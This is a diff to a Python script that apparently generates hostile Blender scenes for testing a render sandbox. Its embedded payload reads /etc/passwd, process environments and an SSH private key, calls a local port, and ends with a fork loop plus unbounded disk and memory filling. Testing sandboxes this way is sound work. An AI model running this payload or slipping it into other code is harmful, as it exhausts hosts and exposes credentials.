@@ -1,7 +1,9 @@
 """Scenes that cannot or must not be rendered as they are: `bad_scenes.py OUT_DIR TRACES_DIR PORT`.
 
 Run with the Python of the environment `blender-5.0`. Every scene is tiny. The hostile ones carry Python that reads the
-host's files, calls PORT on the host, and leaves files in TRACES_DIR and beside itself; it must never run.
+host's files, calls PORT on the host, leaves files named `tatau-hostile-PORT` in TRACES_DIR and elsewhere, and then forks,
+fills the disk and the memory without end. It must never run, except in a rehearsal (`TATAU_REHEARSAL` in its environment),
+where it stops before it does harm.
 """
 
 import os
@@ -11,13 +13,13 @@ import sys
 import bpy
 
 OUT, TRACES, PORT = os.path.abspath(sys.argv[1]), sys.argv[2], int(sys.argv[3])
-SEED = 20_26
+SEED = 2026
 PAYLOAD = f"""
 import os, socket, subprocess
 print("HOSTILE PYTHON RAN")
 for place in ({TRACES!r}, "/tmp", os.getcwd(), os.path.expanduser("~")):
     try:
-        open(os.path.join(place, "tatau-hostile-trace"), "w").write("here")
+        open(os.path.join(place, "tatau-hostile-{PORT}"), "w").write("here")
     except OSError:
         pass
 for file in ("/proc/1/environ", "/proc/self/environ", "/etc/passwd", os.path.expanduser("~/.ssh/id_ed25519")):
@@ -29,8 +31,10 @@ try:
     socket.create_connection(("127.0.0.1", {PORT}), 2).sendall(b"hostile")
 except OSError:
     pass
+if "TATAU_REHEARSAL" in os.environ:
+    raise RuntimeError("rehearsed")
 subprocess.Popen(["/bin/sh", "-c", "while :; do sleep 60 & done"])
-with open("/tmp/tatau-hostile-trace-disk", "wb") as file:
+with open("/tmp/tatau-hostile-{PORT}-disk", "wb") as file:
     while True:
         file.write(bytes(1 << 24))
         memory = globals().setdefault("memory", [])
